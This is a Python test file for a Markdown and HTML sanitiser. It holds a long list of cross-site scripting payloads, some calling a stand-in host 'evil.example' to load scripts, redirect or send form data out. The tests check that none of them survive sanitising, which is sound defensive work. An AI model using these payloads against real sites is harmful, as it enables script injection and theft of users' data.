"""Markup: what an attacker writes comes out as text or not at all."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bridge.policy.markup import markdown_to_html, sanitise_html
from tests.unit.policy.danger import refuse_danger

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<p onclick=alert(1)>x</p>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='matrix:u/eve:s'>x</a>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=x><button>go</button></form>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<div><div><div onmouseover=alert(1)><b>x",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[a](https://ok.example 'x\" onmouseover=\"alert(1)')",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]


@pytest.mark.parametrize("html", SCRIPTS)
def test_nothing_dangerous_survives_in_html(html: str) -> None:
    refuse_danger(sanitise_html(html))


@pytest.mark.parametrize("text", SCRIPTS + MARKDOWN)
def test_nothing_dangerous_survives_in_markdown(text: str) -> None:
    refuse_danger(markdown_to_html(text))


@pytest.mark.parametrize("text", ["<b>x</b>", "<script>alert(1)</script>", "a & b < c"])
def test_html_in_markdown_is_shown_as_text(text: str) -> None:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert markdown_to_html(text) == f"<p>{escaped}</p>"


def test_html_beside_a_table_that_is_too_wide_is_shown_as_text_too() -> None:
    assert "&lt;b&gt;x&lt;/b&gt;" in markdown_to_html("|" * 3000 + "\n\n<b>x</b>")


@pytest.mark.parametrize("html", ['<code class="evil">x</code>', '<code class="language-py evil">x</code>'])
def test_a_class_names_a_language_and_nothing_else(html: str) -> None:
    assert "evil" not in sanitise_html(html)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("plain", "<p>plain</p>"),
        ("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>"),
        ("[x](https://ok.example)", '<p><a href="https://ok.example" rel="noopener">x</a></p>'),
        ("[x](mailto:a@b.example)", '<p><a href="mailto:a@b.example" rel="noopener">x</a></p>'),
        ("```py\nx = 1\n```", '<pre><code class="language-py">x = 1\n</code></pre>'),
        ("", ""),
    ],
)
def test_what_markdown_means(text: str, html: str) -> None:
    assert markdown_to_html(text) == html


def test_a_table() -> None:
    html = markdown_to_html("| a | b |\n|---|---|\n| 1 | 2 |")
    assert html.replace("\n", "") == (
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"
    )


pieces = st.lists(
    st.sampled_from([*SCRIPTS, *MARKDOWN, "text", "<b>", "</b>", "<p>", "&lt;", "'", '"', "<!--", "-->"]), max_size=6
)
soups = st.one_of(st.text(max_size=60), pieces.map("".join))


@settings(max_examples=50, deadline=None)
@given(soups)
def test_what_is_sanitised_stays_as_it_is(html: str) -> None:
    once = sanitise_html(html)
    refuse_danger(once)
    assert sanitise_html(once) == once


@settings(max_examples=50, deadline=None)
@given(soups)
def test_whatever_somebody_writes_comes_out_harmless(text: str) -> None:
    refuse_danger(markdown_to_html(text))


@pytest.mark.parametrize(
    "text",
    [
        "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|\n" * 2900,
        "#\n" * 4000,
        "-\n" * 4000,
        "> " * 4000,
        "[" * 8000,
        "![[" * 2600,
    ],
)
def test_html_does_not_grow_out_of_proportion(text: str) -> None:
    assert len(markdown_to_html(text)) < 20 * len(text)
